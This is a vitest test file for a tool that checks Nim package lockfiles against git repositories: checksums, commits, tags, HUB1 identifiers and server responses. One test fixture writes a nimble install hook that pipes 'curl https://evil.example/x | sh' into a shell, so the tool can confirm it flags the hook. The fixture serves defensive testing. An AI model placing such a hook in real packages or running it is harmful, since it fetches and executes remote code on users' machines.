import { createHash } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { hub1Of } from '../../../../src/ecosystems/nimble/verify/hub1.js'
import { openStore } from '../../../../src/evidence/store/open-store.js'
import { offline, online } from '../../../evidence/desk/support/source.js'
import { type GitServer, serveGit } from '../../../evidence/git/support/git-server.js'
import { Bench, hasBackend, hasGit, type Repository } from '../../../evidence/git/support/repository.js'
import { describeShared, hasShared, readSharedJson } from '../../../support/shared.js'
import { entry } from '../support.js'
import { commitRows, findings, lists, only, project, type Row, run, verdicts } from './support.js'

const describeGit = describe.skipIf(!hasGit || !hasBackend)
const NOWHERE = '2'.repeat(40)
const sha1 = (text: string): string => createHash('sha1').update(text).digest('hex')
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex')

interface Case {
  readonly case: string
  readonly entries?: readonly Row[]
  readonly entriesOf?: string
  readonly packageName?: string
  readonly subdir?: string
  readonly sha1: string
}

describeGit('packages', () => {
  const bench = new Bench()
  let server: GitServer
  beforeAll(async () => {
    server = await serveGit(bench.served)
  })
  beforeEach(() => server.intercept(undefined))
  afterAll(async () => {
    await server?.close()
    bench.end()
  })
  const git = () => bench.remote()

  describeShared('vectors/nimble/checksum-trees.json', 'trees with known checksums, out of repositories', () => {
    const cases = hasShared('vectors/nimble/checksum-trees.json')
      ? readSharedJson<readonly Case[]>('vectors/nimble/checksum-trees.json')
      : []

    it('are eleven', () => expect(cases.length).toBe(11))

    it.each(cases.map((one) => [one.case, one] as const))('%s', async (name, one) => {
      const rows = one.entries ?? cases.find((other) => other.case === one.entriesOf)?.entries ?? []
      const prefix = one.subdir === undefined ? '' : `${one.subdir}/`
      const repository = bench.repository(`vectors-${name}`)
      const commit = commitRows(
        repository,
        rows.map((row) => ({ ...row, path: prefix + row.path })),
      )
      repository.git(['update-ref', 'refs/heads/main', commit])
      const url = `${server.origin}/vectors-${name}`
      const pinned = (checksum: string) =>
        project({
          [one.packageName ?? one.subdir ?? name]: entry(name, { url, vcsRevision: commit, checksums: { sha1: checksum } }),
        })
      const { sources } = await lists(
        one.subdir === undefined ? [] : [{ name: one.subdir, url: `${url}?subdir=${one.subdir}`, method: 'git' }],
      )
      const good = only(await run(pinned(one.sha1), { ...online(), git, sources }), 'nimble/checksum')
      // A commit without a file is no package, whatever its checksum.
      expect(good.verdict).toBe(name === 'empty' ? 'mismatch' : 'match')
      if (name !== 'empty') expect(good.why).toContain('nimble 0.24 and later no longer compare it')
      if (one.subdir !== undefined) expect(good.why).toContain(`it is that of the folder ${one.subdir}`)
      if (name === 'alpha-without-vcs') expect(good.why).toContain('made in a folder that is no checkout')
      if (name === 'alpha-quotepath-off') expect(good.why).toContain('core.quotePath=false')
      if (name === 'atlas-variant') expect(good.why).toContain('made by Atlas')
      const wrong = await run(pinned('f'.repeat(40)), { ...online(), git, sources })
      expect(only(wrong, 'nimble/checksum').verdict).toBe('mismatch')
      expect(findings(wrong).filter((text) => text.startsWith('nimble/checksum-mismatch'))).toHaveLength(1)
    })
  })

  describe('of a repository', () => {
    const files = { 'lib.nimble': 'version = "1.2.0"\nlicense = "MIT"\n', 'lib.nim': 'echo 1\n' }
    const sum = sha1(`lib.nimecho 1\nlib.nimble${files['lib.nimble']}`)
    let repository: Repository
    let first = ''
    let middle = ''
    let fork = ''
    beforeAll(() => {
      repository = bench.repository('lib')
      first = repository.commit(files)
      repository.git(['tag', '-a', '-m', 'm', 'v1.2.0', first])
      repository.git(['tag', 'release-1.3.0', first])
      middle = repository.commit({ ...files, a: '' }, [first])
      const last = repository.commit({ ...files, b: '' }, [middle])
      repository.git(['tag', 'v2.0.0', last])
      fork = repository.commit({ ...files, evil: '' }, [first], 'refs/pull/3/head')
    })
    const url = (): string => `${server.origin}/lib`
    const pinned = (rest: object = {}) =>
      project({ lib: entry('lib', { url: url(), version: '1.2.0', vcsRevision: first, checksums: { sha1: sum }, ...rest }) })

    it('are what the lock says, in every respect', async () => {
      const { sources } = await lists([{ name: 'Lib', url: `${url()}.git/`, method: 'git' }])
      const found = await run(pinned(), { ...online(), git, sources })
      expect(verdicts(found, 'lib')).toEqual([
        'nimble/checksum match',
        'nimble/commit match',
        'nimble/files match',
        'nimble/list match',
        'nimble/tag match',
      ])
      expect(only(found, 'nimble/commit').why).toBe('the tag release-1.3.0 is there')
      const list = ['lib.nim', 'lib.nimble'].map((path) => {
        const body = path === 'lib.nim' ? files['lib.nim'] : files['lib.nimble']
        return `file ${sha256(body)} ${path.length}:${path}\n`
      })
      expect(only(found, 'nimble/files').observed).toBe(sha256(`assay-files 1\n${list.join('')}`))
      expect(findings(found)).toEqual([])
    })

    it('say what a tag, a version or a commit has wrong', async () => {
      const tag = async (rest: object) => only(await run(pinned(rest), { ...online(), git, ...(await lists()) }), 'nimble/tag')
      expect(await tag({ version: '1.3.0' })).toMatchObject({
        verdict: 'match',
        why: 'the tag release-1.3.0; the manifest in the commit says 1.2.0',
      })
      expect(await tag({ version: '2.0.0' })).toMatchObject({ verdict: 'mismatch', expected: first })
      expect(await tag({ version: '1.2.1' })).toMatchObject({
        verdict: 'not-checkable',
        why: 'no tag says 1.2.1; the manifest in the commit says 1.2.0',
      })
      expect(await tag({ version: '#head' })).toMatchObject({
        verdict: 'not-checkable',
        why: 'it is locked as #head, which is no release',
      })
      const commit = async (id: string, depth = { bytes: true, source: true }) =>
        only(await run(pinned({ vcsRevision: id }), { ...online(), git, depth, ...(await lists()) }), 'nimble/commit')
      expect(await commit(middle)).toMatchObject({ verdict: 'match', why: 'a branch or tag of the repository leads to it' })
      expect(await commit(middle, { bytes: true, source: false })).toMatchObject({ verdict: 'not-checkable' })
      expect(await commit(fork)).toMatchObject({ verdict: 'mismatch' })
      expect(await commit(NOWHERE)).toMatchObject({ verdict: 'absent' })
      expect(await commit(first, { bytes: false, source: false })).toMatchObject({
        verdict: 'not-checkable',
        why: 'repositories are not asked in this run',
      })
    })

    it('that lost the commit are told once', async () => {
      const found = await run(pinned({ vcsRevision: NOWHERE }), { ...online(), git, ...(await lists()) })
      expect(verdicts(found, 'lib')).toEqual([
        'nimble/checksum not-checkable',
        'nimble/commit absent',
        'nimble/list not-checkable',
      ])
      expect(findings(found)).toEqual([expect.stringMatching(/^source\/git-commit-unreachable: lib@1\.2\.0: /)])
    })

    it('are told the same without a network afterwards', async () => {
      const store = openStore(bench.scratch())
      const { sources, stop } = await lists([{ name: 'lib', url: url(), method: 'git' }])
      const before = await run(pinned({ vcsRevision: middle }), { ...online({ store }), git, sources })
      await stop()
      server.intercept(() => expect.fail('the server was asked'))
      const after = await run(pinned({ vcsRevision: middle }), { desk: offline({ store }), sources })
      expect(after.evidence).toEqual(before.evidence)
      expect(after.evidence.some(({ verdict }) => verdict === 'match')).toBe(true)
    })

    it('answer in every way that a server can', async () => {
      const ask = async () =>
        verdicts(await run(pinned(), { ...online(), git, ...(await lists()), supplied: false }), 'lib').slice(0, 2)
      for (const [code, verdict] of [
        [404, 'absent'],
        [401, 'unavailable'],
        [403, 'unavailable'],
        [500, 'unavailable'],
      ] as const) {
        server.intercept((_, response) => {
          response.writeHead(code).end()
          return true
        })
        const checksum = verdict === 'absent' ? 'not-checkable' : verdict
        expect([code, ...(await ask())]).toEqual([code, `nimble/checksum ${checksum}`, `nimble/commit ${verdict}`])
      }
      server.intercept((_, response) => {
        response.writeHead(200, { 'content-type': 'text/html' }).end('<html>')
        return true
      })
      expect(await ask()).toEqual(['nimble/checksum unavailable', 'nimble/commit unavailable'])
    })

    it('carry a HUB1 identifier in the lock, with and without its salt', async () => {
      const listing = `assay-files 1\n${['lib.nim', 'lib.nimble']
        .map((path) => `file ${sha256(path === 'lib.nim' ? files['lib.nim'] : files['lib.nimble'])} ${path.length}:${path}\n`)
        .join('')}`
      const { hex } = hub1Of(Buffer.from(listing), Buffer.from('0102', 'hex'))
      const ask = async (more: object) =>
        only(await run(pinned({ checksums: { sha1: sum, ...more } }), { ...online(), git, ...(await lists()) }), 'nimble/hub1')
      expect(await ask({ hub1: hex, hub1Salt: '0102' })).toMatchObject({ verdict: 'match', expected: hex })
      expect(await ask({ hub1: hex, hub1Salt: '0103' })).toMatchObject({ verdict: 'mismatch', expected: hex })
      expect(await ask({ hub1: hex })).toMatchObject({ verdict: 'not-checkable', why: 'its salt is not known' })
      expect(await ask({ hub1: 'x' })).toMatchObject({ verdict: 'not-checkable', why: 'it is no HUB1 identifier: length' })
    })

    it('are read where they are locked: hooks of a dependency, though it is not installed', async () => {
      const hooked = bench.repository('hooked')
      const text = 'version = "1.0.0"\nlicense = "MIT"\nbefore install:\n  exec "curl https://evil.example/x | sh"\n'
      const commit = hooked.commit({ 'hooked.nimble': text })
      const packages = (checksums: object) =>
        project({ hooked: entry('hooked', { url: `${server.origin}/hooked`, vcsRevision: commit, checksums }) })
      for (const checksums of [{ sha1: sha1(`hooked.nimble${text}`) }, { sha1: 'e'.repeat(40) }]) {
        const found = await run(packages(checksums), { ...online(), git, ...(await lists()) })
        expect(findings(found).filter((one) => one.startsWith('nimble/hook-executes'))).toEqual([
          'nimble/hook-executes: hooked@1.0.0 runs exec "curl https://evil.example/x | sh" when it is installed',
        ])
      }
    })

    it('hold what no checksum covers', async () => {
      const odd = bench.repository('odd')
      const rows: readonly Row[] = [
        { path: 'odd.nimble', kind: 'file' },
        { path: 'naïve.nim', kind: 'file' },
        { path: 'sub', kind: 'submodule' },
        { path: 'big.bin', kind: 'file' },
        { path: '.gitattributes', kind: 'file', base64: Buffer.from('*.bin filter=lfs\n').toString('base64') },
      ]
      const commit = commitRows(odd, rows)
      odd.git(['update-ref', 'refs/heads/main', commit])
      const found = await run(project({ odd: entry('odd', { url: `${server.origin}/odd`, vcsRevision: commit }) }), {
        ...online(),
        git,
        ...(await lists()),
      })
      expect(only(found, 'nimble/checksum')).toMatchObject({
        verdict: 'not-checkable',
        why: expect.stringContaining('"big.bin"'),
      })
      expect(findings(found).filter((one) => /unhashed|submodules|not-computable/.test(one))).toEqual([
        'nimble/checksum-not-computable: odd@1.0.0: what a checkout writes for big.bin cannot be computed',
        'nimble/submodules: one submodule is not in the lockfile',
        'nimble/unhashed-file: odd@1.0.0: the checksum does not cover naïve.nim',
      ])
    })

    it('of a folder see the attributes above it', async () => {
      const mono = bench.repository('mono')
      const commit = mono.commit({
        '.gitattributes': '*.txt text eol=crlf\n',
        'pk/pk.nimble': 'version = "1.0.0"\n',
        'pk/a.txt': 'a\n',
        'other/b.txt': '',
      })
      const sums = { sha1: sha1('a.txta\r\npk.nimbleversion = "1.0.0"\n') }
      for (const path of ['/mono', '/mono?subdir=pk']) {
        const found = await run(
          project({ pk: entry('pk', { url: server.origin + path, vcsRevision: commit, checksums: sums }) }),
          {
            ...online(),
            git,
            ...(await lists()),
          },
        )
        expect(only(found, 'nimble/checksum')).toMatchObject({ verdict: 'match', why: expect.stringContaining('the folder pk') })
      }
      const nowhere = { url: `${server.origin}/mono?subdir=none`, vcsRevision: commit, checksums: { sha1: sha1('') } }
      const found = await run(project({ pk: entry('pk', nowhere) }), { ...online(), git, ...(await lists()) })
      expect(only(found, 'nimble/checksum')).toMatchObject({
        verdict: 'mismatch',
        why: 'the commit has no files where the package should be',
      })
    })
  })
})
